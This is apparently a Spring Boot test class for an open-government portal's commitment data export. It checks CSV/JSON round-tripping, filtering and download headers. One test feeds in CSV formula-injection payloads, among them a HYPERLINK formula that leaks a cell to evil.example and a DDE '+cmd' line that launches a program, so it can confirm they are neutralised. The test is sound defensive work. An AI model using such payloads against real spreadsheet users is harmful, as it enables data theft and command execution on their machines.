package org.opengovpartnership.portal.opendata;

import org.opengovpartnership.portal.FreshSchema;
import java.nio.file.Path;
import java.util.HashMap;
import java.util.List;
import java.util.Map;

import org.flywaydb.core.Flyway;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.opengovpartnership.portal.opendata.ImportReport.Counts;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.context.SpringBootTest;
import org.springframework.boot.webmvc.test.autoconfigure.AutoConfigureMockMvc;
import org.springframework.jdbc.core.JdbcTemplate;
import org.springframework.test.context.TestPropertySource;
import org.springframework.test.web.servlet.MockMvc;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.json.JsonMapper;

import static org.assertj.core.api.Assertions.assertThat;
import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.get;
import static org.springframework.test.web.servlet.result.MockMvcResultMatchers.header;
import static org.springframework.test.web.servlet.result.MockMvcResultMatchers.status;

@SpringBootTest
@AutoConfigureMockMvc
@TestPropertySource(locations = "classpath:opendata/test.properties")
class OpenDataControllerTests {

	@Autowired
	private MockMvc mvc;

	@Autowired
	private OgpImporter importer;

	@Autowired
	private JdbcTemplate jdbc;

	@Autowired
	private Flyway flyway;

	@TempDir
	private Path folder;

	@BeforeEach
	void importTheSharedFile() {
		FreshSchema.recreate(this.flyway);
		this.importer.apply(OgpFiles.realFile(), "ogp.csv");
	}

	@Test
	void exportImportsAgainUnchanged() throws Exception {
		Path export = OgpFiles.write(this.folder, "export.csv", csv("/commitments.csv"));

		ImportReport report = this.importer.apply(export, "export.csv");

		int members = count("members");
		int plans = count("action_plans");
		int commitments = count("commitments");
		assertThat(report.rows()).isEqualTo(commitments);
		assertThat(report.members()).isEqualTo(new Counts(0, 0, members, 0));
		assertThat(report.plans()).isEqualTo(new Counts(0, 0, plans, 0));
		assertThat(report.commitments()).isEqualTo(new Counts(0, 0, commitments, 0));
		ImportReport again = this.importer.apply(export, "export.csv");
		assertThat(again.commitments()).isEqualTo(new Counts(0, 0, commitments, 0));
	}

	@Test
	void exportsTheCellsItImported() throws Exception {
		List<List<String>> exported = OgpFiles
			.parse(OgpFiles.write(this.folder, "export.csv", csv("/commitments.csv")));

		assertThat(exported.get(0)).isEqualTo(OgpFiles.header());
		Map<String, List<String>> byCode = new HashMap<>();
		exported.subList(1, exported.size()).forEach((row) -> byCode.put(row.get(0), row));
		for (List<String> original : OgpFiles.rows()) {
			assertThat(byCode.get(original.get(0))).as(original.get(0))
				.isEqualTo(original.stream().map(FormulaCells::neutralise).toList());
		}
	}

	@Test
	void neutralisesEveryCellASpreadsheetWouldReadAsAFormulaAndImportsItBackUnchanged() throws Exception {
		List<List<String>> rows = OgpFiles.rows();
		List<String> row = rows.get(0);
		Map<String, String> formulas = Map.of("Commitment Title", "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
				"Short Title", "+cmd|' /C calc'!A0", "Lead Institution", "@SUM(1+1)", "Supporting Institution(s)",
				"- item", "Full Text", "'=already quoted", "Theme", "\t=1+1", "Cluster Commitment ID(s)", "\r-2");
		formulas.forEach((column, value) -> row.set(OgpFiles.column(column), value));
		// A file's cell loses one quote before a formula character, as the export adds:
		// this one stores "'=already quoted".
		row.set(OgpFiles.column("Full Text"), "''=already quoted");
		this.importer.apply(OgpFiles.write(this.folder, "formulas.csv", OgpFiles.csv(OgpFiles.header(), rows)),
				"formulas.csv");

		List<List<String>> exported = OgpFiles
			.parse(OgpFiles.write(this.folder, "export.csv", csv("/commitments.csv")));

		List<String> exportedRow = exported.stream()
			.filter((cells) -> cells.get(0).equals(row.get(0)))
			.findFirst()
			.orElseThrow();
		formulas.forEach((column, value) -> assertThat(exportedRow.get(OgpFiles.column(column))).as(column)
			.isEqualTo("'" + value));
		for (List<String> cells : exported.subList(1, exported.size())) {
			for (String cell : cells) {
				assertThat(cell).as(cells.get(0))
					.doesNotStartWith("=")
					.doesNotStartWith("+")
					.doesNotStartWith("-")
					.doesNotStartWith("@")
					.doesNotStartWith("\t")
					.doesNotStartWith("\r");
			}
		}
		assertThat(exported.stream().flatMap(List::stream).filter((cell) -> cell.equals("'-1")).count())
			.as("the real file's negative IRM scores")
			.isGreaterThan(50);

		int commitments = count("commitments");
		ImportReport again = this.importer.apply(OgpFiles.write(this.folder, "again.csv",
				OgpFiles.csv(exported.get(0), exported.subList(1, exported.size()))), "again.csv");
		assertThat(again.commitments()).isEqualTo(new Counts(0, 0, commitments, 0));
		assertThat(this.jdbc.queryForObject("select title from commitments where code = ?", String.class, row.get(0)))
			.isEqualTo(formulas.get("Commitment Title"));
		assertThat(this.jdbc.queryForObject("select lead_institution from commitments where code = ?", String.class,
				row.get(0)))
			.isEqualTo("@SUM(1+1)");
	}

	@Test
	void exportsAMembersCommitmentsWithTheExplorersFilters() throws Exception {
		List<String> argentina = OgpFiles.rows()
			.stream()
			.filter((row) -> row.get(OgpFiles.column("Code")).equals("ARG"))
			.map((row) -> row.get(0))
			.toList();
		assertThat(codes("/members/argentina/commitments.csv")).containsExactlyInAnyOrderElementsOf(argentina);
		List<String> thirdPlan = OgpFiles.rows()
			.stream()
			.filter((row) -> row.get(OgpFiles.column("Code")).equals("ARG")
					&& row.get(OgpFiles.column("Action Plan Number")).equals("3"))
			.map((row) -> row.get(0))
			.toList();
		assertThat(thirdPlan).contains("AR0045").hasSizeLessThan(argentina.size());
		assertThat(codes("/members/argentina/commitments.csv?plan=3")).containsExactlyElementsOf(thirdPlan);
		assertThat(codes("/members/argentina/commitments.csv?year=2017")).containsExactlyElementsOf(thirdPlan);
		assertThat(codes("/members/argentina/commitments.csv?q={q}", "congreso nacional")).contains("AR0045");
		assertThat(codes("/members/argentina/commitments.csv?area={area}", "Open Data")).contains("AR0045");
		assertThat(codes("/members/argentina/commitments.csv?area=Gender")).doesNotContain("AR0045");
		assertThat(codes("/commitments.csv?q=AR0045")).containsExactly("AR0045");
		assertThat(codes("/commitments.csv?status=ACTIVE")).hasSize(113);
	}

	@Test
	void namesTheDownload() throws Exception {
		this.mvc.perform(get("/members/argentina/commitments.csv"))
			.andExpect(status().isOk())
			.andExpect(header().string("Content-Type", "text/csv;charset=UTF-8"))
			.andExpect(header().string("Content-Disposition", "attachment; filename=\"argentina-commitments.csv\""));
	}

	@Test
	void exportsJsonKeyedByTheSheetsColumns() throws Exception {
		String body = this.mvc.perform(get("/members/albania/commitments.json"))
			.andExpect(status().isOk())
			.andExpect(header().string("Content-Type", "application/json"))
			.andReturn()
			.getResponse()
			.getContentAsString();

		JsonNode rows = JsonMapper.builder().build().readTree(body);
		assertThat(rows.isArray()).isTrue();
		assertThat(rows.size()).isEqualTo(count("commitments c join action_plans p on p.id = c.action_plan_id "
				+ "join members m on m.id = p.member_id where m.slug = 'albania'"));
		JsonNode first = rows.get(0);
		assertThat(first.propertyNames()).containsExactlyElementsOf(OgpSheet.COLUMNS);
		assertThat(first.get("Country/Locality").asString()).isEqualTo("Albania");
		JsonNode al0002 = null;
		for (JsonNode row : rows) {
			if (row.get("Commitment Unique Identifier").asString().equals("AL0002")) {
				al0002 = row;
			}
		}
		assertThat(al0002).isNotNull();
		assertThat(al0002.get("Start Date").isNull()).isTrue();
		assertThat(al0002.get("Commitment Title").asString()).isEqualTo("e-Acts");
	}

	@Test
	void answersNotFoundForAnUnknownMember() throws Exception {
		this.mvc.perform(get("/members/atlantis/commitments.csv")).andExpect(status().isNotFound());
		this.mvc.perform(get("/members/atlantis/commitments.json")).andExpect(status().isNotFound());
	}

	@Test
	void showsEveryImportedMembersPage() throws Exception {
		List<String> slugs = this.jdbc.queryForList("select slug from members", String.class);
		assertThat(slugs).hasSize(76).contains("north-macedonia", "slovak-republic", "cote-divoire");
		for (String slug : slugs) {
			this.mvc.perform(get("/members/{slug}", slug)).andExpect(status().isOk());
		}
	}

	private byte[] csv(String address, Object... variables) throws Exception {
		return this.mvc.perform(get(address, variables))
			.andExpect(status().isOk())
			.andReturn()
			.getResponse()
			.getContentAsByteArray();
	}

	private List<String> codes(String address, Object... variables) throws Exception {
		List<List<String>> rows = OgpFiles.parse(OgpFiles.write(this.folder, "codes.csv", csv(address, variables)));
		return rows.subList(1, rows.size()).stream().map((row) -> row.get(0)).toList();
	}

	private int count(String from) {
		return this.jdbc.queryForObject("select count(*) from " + from, Integer.class);
	}

}
